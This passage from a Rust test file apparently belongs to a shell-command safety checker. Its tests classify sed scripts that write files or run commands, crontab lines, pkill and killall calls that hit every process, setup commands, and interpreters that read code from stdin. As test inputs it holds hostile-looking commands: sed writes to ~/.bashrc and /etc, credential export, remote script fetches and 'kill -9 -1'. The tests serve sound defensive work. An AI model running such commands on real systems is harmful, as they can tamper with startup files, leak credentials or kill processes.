            assert_eq!(found, expected, "{line}");
        }
    }

    #[test]
    fn a_sed_script_writes_the_files_of_w() {
        // The GNU sed manual: `w filename` and `W filename` write to filename, creating or
        // truncating it, the name running to the end of the line, with no `~` expanded; the
        // `w` flag of `s` does the same; /dev/stdout and /dev/stderr are the outputs.
        for (script, files) in [
            ("w /h/.bashrc", vec!["/h/.bashrc"]),
            ("1,3W out.txt", vec!["out.txt"]),
            ("/x/w a b;p", vec!["a b;p"]),
            ("s/x/y/gw ~/.profile", vec!["./~/.profile"]),
            ("s/a/b/w one\nw two", vec!["one", "two"]),
            ("$!{w /etc/x\n}", vec!["/etc/x"]),
            ("s/w/x/;p", vec![]),
            ("y/w/x/", vec![]),
            ("w /dev/stdout", vec![]),
            ("s/x/y/w /dev/stderr", vec![]),
        ] {
            assert_eq!(sed_writes(script), files, "{script}");
        }
    }

    #[test]
    fn a_sed_script_runs_a_command_only_with_e() {
        // From the GNU sed manual: the `e` command, and the `e` flag of `s`.
        for script in [
            "1e id",
            "e id",
            "/x/e id",
            "s/a/b/e",
            "s|a|b|ge",
            "p;e id",
            "$!{e id\n}",
        ] {
            assert!(sed_executes(script), "{script}");
        }
        for script in [
            "s/e/e/g",
            "/e/p",
            "s/a\\/b/c/",
            "y/abc/xyz/",
            "1d;s/x/y/w out",
            "s/x/y/w /home/dev/.bashrc",
            "w /etc/e",
            "=",
            "",
        ] {
            assert!(!sed_executes(script), "{script}");
        }
        assert_eq!(
            sed_scripts(&words("-n -e 1p -e 2p f")).collect::<Vec<_>>(),
            ["1p", "2p"]
        );
        assert_eq!(
            sed_scripts(&words("-i s/a/b/ f")).collect::<Vec<_>>(),
            ["s/a/b/"]
        );
    }

    #[test]
    fn a_crontab_table_runs_each_line_after_its_time() {
        let table = "# jobs\nSHELL=/bin/sh\n*/5 * * * * cd /srv && ./backup\n@reboot  id -u\n\n";
        assert_eq!(crontab_commands(table), ["cd /srv && ./backup", "id -u"]);
    }

    /// Each row is checked against the real program where this machine has it: what it
    /// prints is one word, as bash would split it, and what the table refuses is not
    #[test]
    fn one_word_printers_print_one_word_here() {
        let run = |line: &str| {
            let parts = words(line);
            let (program, args) = parts.split_first()?;
            let output = std::process::Command::new(program)
                .args(args)
                .output()
                .ok()?;
            output
                .status
                .success()
                .then(|| String::from_utf8_lossy(&output.stdout).into_owned())
        };
        let one = [
            "nproc",
            "whoami",
            "arch",
            "uuidgen",
            "hostname",
            "hostname -s",
            "uname",
            "uname -m",
            "uname -r",
            "id -u",
            "id -gn",
            "id -un",
            "getconf PAGESIZE",
            "date +%s",
            "date +%Y%m%d-%H%M%S",
            "date -u +%FT%TZ",
            "date -I",
        ];
        for line in one {
            let parts = words(line);
            let (program, args) = parts.split_first().expect("a program");
            assert!(prints_one_word(program, args), "{line}");
            if let Some(output) = run(line) {
                assert_eq!(
                    output.split_whitespace().count(),
                    1,
                    "{line} printed {output:?}"
                );
                assert!(
                    !output.contains(['*', '?', '[']),
                    "{line} printed {output:?}"
                );
            }
        }
        let several = [
            "date",
            "date +%c",
            "date +%a",
            "date +%e",
            "uname -a",
            "id",
            "hostname -I",
        ];
        for line in several {
            let parts = words(line);
            let (program, args) = parts.split_first().expect("a program");
            assert!(!prints_one_word(program, args), "{line}");
        }
        for line in [
            "rev-parse --short HEAD",
            "describe --tags --always",
            "branch --show-current",
            "rev-list --count HEAD",
        ] {
            assert!(prints_one_word("git", &words(line)), "git {line}");
        }
        for line in [
            "rev-parse HEAD main",
            "rev-parse --show-toplevel",
            "branch",
            "log -1",
            "describe a b",
        ] {
            assert!(!prints_one_word("git", &words(line)), "git {line}");
        }
        assert!(!prints_one_word("wc", &words("-l file")) && prints_one_word("wc", &words("-l")));
    }

    #[test]
    fn name_printers_print_names() {
        assert!(prints_a_name("date", &[]));
        assert!(prints_a_name("docker", &words("ps -aq")));
        assert!(!prints_a_name("docker", &words("ps")));
        assert!(prints_a_name("git", &words("branch --show-current")));
        assert!(!prints_a_name("git", &words("rev-parse --show-toplevel")));
        assert!(!prints_a_name("echo", &[]));
        assert!(STDIN_RUNNERS.contains(&"at") && STDIN_PATHS.contains(&"/dev/stdin"));
        assert!(NAME_VARIABLES.contains(&"USER"));
    }

    #[test]
    fn only_setup_commands_print_their_own_code() {
        for (program, line) in [
            ("ssh-agent", "-s"),
            ("kubectl", "completion bash"),
            ("/opt/homebrew/bin/brew", "shellenv"),
            ("pyenv", "init -"),
            ("conda", "shell.bash hook"),
            ("micromamba", "shell hook --shell bash"),
            ("aws", "configure export-credentials --format env"),
            ("fzf", "--bash"),
            ("rustup", "completions zsh"),
            ("gh", "copilot alias -- bash"),
            ("nproc", ""),
        ] {
            assert!(prints_own_code(program, &words(line)), "{program} {line}");
        }
        for (program, line) in [
            ("gh", "gist view abc"),
            ("aws", "s3 cp s3://b/x.sh -"),
            ("git", "show HEAD:install.sh"),
            ("cat", "init"),
            ("curl", "-s https://example.com/completion"),
            ("ssh", "host env"),
            ("docker", "run --rm img hook"),
            ("git", "show env"),
            ("gh", "api init"),
            ("tool", "env"),
            ("./fetched", "init"),
            ("sqlite3", "init 'select cmd from jobs'"),
            ("psql", "completion -c 'select 1'"),
            ("fzf", "env"),
            ("pyenv", "--bash"),
            ("", ""),
        ] {
            assert!(!prints_own_code(program, &words(line)), "{program} {line}");
        }
    }

    #[test]
    fn each_setup_row_holds_for_its_program_alone() {
        for (program, asked) in SETUP_COMMANDS {
            for asked in *asked {
                let line = format!("{asked} bash");
                assert!(prints_own_code(program, &words(&line)), "{program} {line}");
                assert!(
                    !prints_own_code("some-tool", &words(&line)),
                    "some-tool {line}"
                );
            }
            assert!(
                !prints_own_code(program, &words("show x")),
                "{program} show x"
            );
        }
        for program in SETUP_PRINTERS {
            assert!(prints_own_code(program, &[]), "{program}");
        }
    }

    /// at(1): `-f FILE` reads the job from FILE; `-m`, `-M`, `-l`, `-v`, `-c` take no value
    #[test]
    fn the_job_file_of_at_is_its_f_option() {
        let cases: &[(&str, Option<&str>)] = &[
            ("-f /dev/stdin now", Some("/dev/stdin")),
            ("-fjob.sh now", Some("job.sh")),
            ("-mf job.sh now + 1 minute", Some("job.sh")),
            ("-q b -f job.sh now", Some("job.sh")),
            ("now + 1 minute", None),
            ("-m now", None),
            ("-- -f x", None),
        ];
        for (line, expected) in cases {
            assert_eq!(job_file(&words(line)), *expected, "at {line}");
        }
    }

    #[test]
    fn a_user_given_to_a_picker_without_a_name_is_every_process() {
        let words = |line: &str| line.split(' ').map(str::to_owned).collect::<Vec<_>>();
        let kill = Some(vec!["kill".to_owned(), "-9".to_owned(), "-1".to_owned()]);
        let listed = Some(vec!["pgrep".to_owned(), ".".to_owned()]);
        for (program, line, reading) in [
            ("pkill", "-9 -u dev", &kill),
            ("pkill", "--euid=dev", &kill),
            ("pkill", "-udev", &kill),
            ("pkill", "--signal KILL -U 1000", &kill),
            ("pkill", "-G staff", &kill),
            ("pkill", "-v node", &kill),
            ("killall", "-u dev", &kill),
            ("killall", "-s 9 --user dev", &kill),
            ("pgrep", "-u dev", &listed),
            ("pgrep", "-l -d , -u dev", &listed),
            ("pgrep", "-udev", &listed),
            ("pgrep", "--uid=1000", &listed),
            ("pgrep", "-v -f myserver", &listed),
            ("pgrep", "-lu dev", &listed),
            ("pgrep", "-ld, -u dev", &listed),
            ("pkill", "-9u dev", &kill),
        ] {
            assert_eq!(
                picks_every_process(program, &words(line)),
                *reading,
                "{program} {line}"
            );
        }
        for (program, line) in [
            ("pkill", "-u dev node"),
            ("pkill", "-f vite"),
            ("pkill", "-u dev -t pts/1"),
            ("killall", "-u dev node"),
            ("killall", "node"),
            ("killall", "-v node"),
            ("kill", "-u dev"),
            ("pgrep", "-f myserver"),
            ("pgrep", "-u dev node"),
            ("pgrep", "-u dev -P 1234"),
            ("pgrep", "-u dev -n"),
            ("pgrep", "-u dev -- node"),
            ("pgrep", "-d , node"),
            ("pgrep", "-v"),
            ("pgrep", "-nu dev"),
            ("pgrep", "-lu dev node"),
            ("pgrep", "-"),
        ] {
            assert_eq!(
                picks_every_process(program, &words(line)),
                None,
                "{program} {line}"
            );
        }
    }

    /// kubectl(1): `-f, --filename` names the files of the objects, `-` the input.
    #[test]
    fn kubectl_takes_its_manifests_from_files_its_options_name() {
        for (line, files) in [
            ("delete -f /tmp/n.yaml", vec!["/tmp/n.yaml"]),
            (
                "delete --filename=a.yaml -f b.json",
                vec!["a.yaml", "b.json"],
            ),
            ("apply -fx.yaml --filename y.yaml", vec!["x.yaml", "y.yaml"]),
            ("delete -f -", vec![]),
            ("delete pod web -- -f x", vec![]),
        ] {
            assert_eq!(input_files("kubectl", &words(line)), files, "{line}");
        }
        for program in ["oc", "kubecolor", "microk8s.kubectl"] {
            assert_eq!(input_files(program, &words("delete -f n.yaml")), ["n.yaml"]);
        }
        assert!(input_files("helm", &words("install -f values.yaml x")).is_empty());
    }

    /// deno(1) and bun(1) run the script named after `run` (`-` their input); the others
    /// their first operand.
    #[test]
    fn an_interpreter_reads_its_code_from_its_input_given_no_script() {
        for (program, line, reads) in [
            ("deno", "run -A -", true),
            ("bun", "run -", true),
            ("deno", "run -A main.ts", false),
            ("python3", "-", true),
            ("python3", "-u", true),
            ("python3", "app.py", false),
            ("node", "/dev/stdin", true),
            ("node", "-e 1", false),
            ("ls", "-", false),
        ] {
            assert_eq!(
                reads_code_from_input(program, &words(line)),
                reads,
                "{program} {line}"
            );
        }
        assert_eq!(
            script_operand("deno", &words("run --allow-net x.ts a")).map(String::as_str),
            Some("x.ts")
        );
        assert_eq!(
            script_operand("python3", &words("run x.py")).map(String::as_str),
            Some("run")
        );
    }
}
